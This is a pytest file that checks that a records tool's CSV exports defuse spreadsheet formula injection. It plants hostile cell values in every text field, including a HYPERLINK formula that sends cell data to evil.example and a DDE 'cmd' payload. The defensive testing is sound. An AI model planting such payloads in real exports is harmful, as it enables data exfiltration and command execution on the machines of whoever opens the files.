"""Every CSV junkai writes is safe to open in a spreadsheet: a resident's opinion or a member of staff's
note that begins with = + - @ (or a tab or CR) would run as a formula (=HYPERLINK(...) when the file is
opened). A hostile value is planted in every text column of the store and every string of every card;
every export and list then reads back with no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from junkai.cli import app
from junkai.export import FORMULA_START, csv_text, defused

runner = CliRunner()
AS_OF = "2026-11-20"
BEAT = "S01-P01-B1"
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"詳細")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]

# the columns a resident or a member of staff writes freely (identifiers and vocabularies stay as they are)
FREE_TEXT = {
    "station": ["name"], "post": ["name"], "beat": ["name"], "officer": ["name"],
    "premises": ["prefecture", "city", "town", "block", "building", "room", "created_by"],
    "card_event": ["operator"], "card": ["confirmed_source"],
    "visit": ["notes", "recorded_by"], "opinion": ["text", "recorded_by"],
}


def run(*args) -> str:
    r = runner.invoke(app, list(args))
    assert r.exit_code == 0, (args, r.output)
    return r.output


def _hostile_leaves(value, values):
    """The card with every string in it replaced by a hostile one (keys kept)."""
    if isinstance(value, dict):
        return {k: _hostile_leaves(v, values) for k, v in value.items()}
    if isinstance(value, list):
        return [_hostile_leaves(v, values) for v in value]
    if isinstance(value, str):
        return next(values)
    return value


def plant(db_url: str) -> None:
    values = itertools.cycle(HOSTILE)
    engine = sa.create_engine(db_url)
    meta = sa.MetaData()
    meta.reflect(engine)
    with engine.begin() as conn:
        for name, cols in FREE_TEXT.items():
            t = meta.tables[name]
            key = list(t.primary_key.columns)[0]
            for (k,) in conn.execute(sa.select(key)).all():
                conn.execute(t.update().where(key == k).values({c: next(values) for c in cols}))
        card = meta.tables["card"]
        for pid, data in conn.execute(sa.select(card.c.premises_id, card.c.data)).all():
            conn.execute(card.update().where(card.c.premises_id == pid)
                         .values(data=json.dumps(_hostile_leaves(json.loads(data), values), ensure_ascii=False)))
        ev = meta.tables["card_event"]
        for (i,) in conn.execute(sa.select(ev.c.id)).all():
            conn.execute(ev.update().where(ev.c.id == i).values(before=json.dumps(next(values)),
                                                                after=json.dumps(next(values))))
    engine.dispose()


def cells(text: str) -> list[str]:
    """Every cell of a CSV text, past its comment lines (the marking and the definitions)."""
    body = "".join(line for line in io.StringIO(text.lstrip("\ufeff"), newline="") if not line.startswith("#"))
    return [c for row in csv.reader(io.StringIO(body, newline="")) for c in row]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-csv")
    mp = pytest.MonkeyPatch()
    mp.setenv("JUNKAI_HOME", str(root / "home"))
    mp.delenv("JUNKAI_DB_URL", raising=False)
    mp.delenv("JUNKAI_CONFIG", raising=False)
    mp.chdir(root)
    out = root / "out"
    out.mkdir()
    try:
        run("seed", "--premises", "30", "--seed", "5", "--until", AS_OF)
        from junkai import settings

        s = settings.load()
        plant(s.db_url)
        texts = {}
        for what in ("premises", "cards", "visits", "opinions", "events"):
            path = out / f"export-{what}.csv"
            run("export", "--what", what, "--format", "csv", "--out", str(path))
            texts[path.name] = path.read_text(encoding="utf-8-sig")
        run("overdue", "--station", "S01", "--as-of", AS_OF, "--out", str(out / "overdue.csv"))
        texts["overdue.csv"] = (out / "overdue.csv").read_text(encoding="utf-8-sig")
        texts["overdue (stdout)"] = run("overdue", "--station", "S01", "--as-of", AS_OF)
        texts["amendments (stdout)"] = run("amendments")

        from junkai import nightly
        from junkai.lists import Definitions
        from junkai.store import Store

        store = Store(s.db_url)
        try:
            step = nightly.overdue_lists(store, "S01", date.fromisoformat(AS_OF), out / "nightly", Definitions(),
                                         "夜間処理")
        finally:
            store.close()
        assert step.files
        for f in step.files:
            texts[Path(f).name] = Path(f).read_text(encoding="utf-8-sig")
        yield texts
    finally:
        mp.undo()


@pytest.mark.slow
def test_no_cell_of_any_csv_would_run_in_a_spreadsheet(written):
    assert len(written) >= 9
    for name, text in written.items():
        found = cells(text)
        assert found, name
        bad = [c for c in found if c.startswith(FORMULA_START)]
        assert bad == [], (name, bad[:5])


@pytest.mark.slow
def test_the_planted_values_reached_the_files_as_text(written):
    """The test plants what it means to: each file holds hostile values, each behind one quote."""
    for name, text in written.items():
        quoted = [c for c in cells(text) if c[:1] == "'" and c[1:].startswith(FORMULA_START)]
        assert quoted, name
    opinions = cells(written["export-opinions.csv"])
    assert "'" + HOSTILE[0] in opinions or any(c == "'" + h for c in opinions for h in HOSTILE)


def test_the_rule_itself():
    import pandas as pd

    df = pd.DataFrame({"text": ["=1+1", "+81-3-1234-5678", "-3", "@x", "\tx", "\rx", "普通", None, "a=b"],
                       "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
    rows = list(csv.reader(io.StringIO(csv_text(df), newline="")))
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+81-3-1234-5678", "'-3", "'@x", "'\tx", "'\nx", "普通", "", "a=b"]
    # numbers of a numeric column cannot hold a formula: a negative number stays a number
    assert rows[1][1] == "-1"
    assert defused(5) == 5 and defused("=") == "'="
    # a CR inside a cell would end the row in a spreadsheet and start a cell with the formula
    assert [r[0] for r in csv.reader(io.StringIO(csv_text(pd.DataFrame({"t": ["a\r=1+1"]})), newline=""))] \
        == ["t", "a\n=1+1"]
